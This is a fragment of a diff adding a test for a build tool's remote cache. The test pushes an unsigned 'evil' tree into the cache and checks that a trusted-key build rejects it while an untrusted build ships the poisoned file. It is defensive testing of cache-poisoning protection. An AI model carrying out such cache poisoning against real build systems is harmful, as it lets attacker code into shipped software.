+    RemoteCache(RemoteConfig(url, write=True)).push("trees", tree.name, evil)  # no key: the attacker has none
+    _, public = new_key()
+    flags = ["--remote-cache", url, *(["--remote-cache-trusted-key", public.line] if trusted else [])]
+    b = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, READER, tmp_path / "cache-b"), *flags)
+    assert b.returncode == 0, b.stderr
+    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
+        shipped = "evil.py" in zf.namelist()
+    if trusted:
+        (warning,) = [line for line in b.stderr.splitlines() if "warning:" in line]
+        assert f"ac/trees/{tree.name}.json is not signed" in warning and "building locally" in warning
+        assert not shipped and (tmp_path / "b.zip").read_bytes() == (tmp_path / "honest.zip").read_bytes()
+        assert report(tmp_path / "b.zip")["cache"]["install"] == "miss"
+    else:
+        assert shipped and "warning" not in b.stderr
